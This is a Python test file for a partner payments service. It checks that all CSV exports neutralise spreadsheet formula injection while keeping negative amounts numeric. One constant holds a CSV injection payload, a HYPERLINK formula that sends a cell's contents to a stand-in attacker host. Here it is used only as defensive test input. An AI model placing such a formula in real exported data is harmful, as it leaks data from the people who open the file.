"""OWASP API10 / CSV injection: every CSV the service writes goes through `contracts.csv_cells`,
which defuses text cells a spreadsheet would read as formulas and leaves numbers as numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import httpx
import msgspec
import pytest

from contracts import csv_cells
from contracts.partners import PurchaseRequest, RedemptionRequest
from gateway.routes import operator_analytics
from gateway.tokens import Role, SigningKey
from tests.support.http_fixtures import base_url, data_dir, http, signing_key
from tests.support.partner_network import admin_headers, onboard, signed

__all__ = ["base_url", "data_dir", "http", "signing_key"]  # the fixtures, shared

ROOT = Path(__file__).resolve().parents[2]
SOURCES = ("contracts", "gateway", "ledger", "partners", "shoppers", "infra")
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def _cells(document: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document)))


def test_no_csv_writer_outside_the_shared_helper() -> None:
    """A new export that writes CSV by itself (and so skips the rule) fails here."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(ROOT))
        for package in SOURCES
        for path in (ROOT / package).rglob("*.py")
        if writers.search(path.read_text()) and path != ROOT / "contracts" / "csv_cells.py"
    ]
    assert found == []


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_with_a_formula_lead_is_quoted(lead: str) -> None:
    text = f"{lead}1+2"
    assert _cells(csv_cells.write_rows(["name"], [[text]]))[1] == [f"'{text}"]


def test_numbers_and_plain_text_are_left_as_they_are() -> None:
    document = csv_cells.write_rows(["a", "b", "c", "d"], [[-1500, 0, "Fresh shop", "a=b"]])
    assert _cells(document)[1] == ["-1500", "0", "Fresh shop", "a=b"]


def test_the_analytics_export_defuses_text_and_keeps_negative_numbers() -> None:
    """Every /v1/operator/analytics/* CSV is rendered by one function: a hostile label in a
    row comes out quoted, a negative figure stays a number."""

    class Row(msgspec.Struct):
        segment: str
        delta_micros: int

    class Result(msgspec.Struct):
        period_start: str
        rows: list[Row]

    document = operator_analytics._csv(Result("2026-01-01", [Row(HOSTILE, -320_000)]))
    header, row = _cells(document)
    assert dict(zip(header, row, strict=True)) == {
        "period_start": "2026-01-01",
        "segment": "'" + HOSTILE,
        "delta_micros": "-320000",
    }


async def test_statement_exports_keep_negative_amounts_numeric(
    http: httpx.AsyncClient, base_url: str, signing_key: SigningKey
) -> None:
    """The partner statement CSV and the console's period CSV: the network owes the redeemer,
    so its `payment_due_micros` is negative, and must stay a number (not `'-...`)."""
    issuer = await onboard(http, signing_key, "csv-issuer")
    redeemer = await onboard(http, signing_key, "csv-redeemer")
    async with issuer.client(base_url) as at_issuer, redeemer.client(base_url) as at_redeemer:
        card = (await at_issuer.enroll()).card_number
        await at_issuer.purchase(
            PurchaseRequest(
                partner_ref="csv-1", card_number=card, amount_minor=10_000, currency="EUR"
            )
        )
        await at_redeemer.redeem(
            RedemptionRequest(partner_ref="csv-u", card_number=card, points=40)
        )
    closed = await http.post(
        "/v1/operator/settlements",
        json={"period_end": datetime.now(UTC).isoformat()},
        headers=admin_headers(signing_key, Role.FINANCE),
    )
    assert closed.status_code == 201, closed.text
    mine = [s for s in closed.json()["statements"] if s["partner_id"] == redeemer.partner_id]
    path = f"/v1/statements/{mine[0]['statement_id']}?format=csv"
    answer = await http.get(path, headers=signed(redeemer, "GET", f"{base_url}{path}"))
    assert answer.headers["content-type"].startswith("text/csv")
    header, row = _cells(answer.text)
    line = dict(zip(header, row, strict=True))
    assert line["payment_due_micros"] == "-320000"
    assert not any(cell.startswith("'") for cell in row)
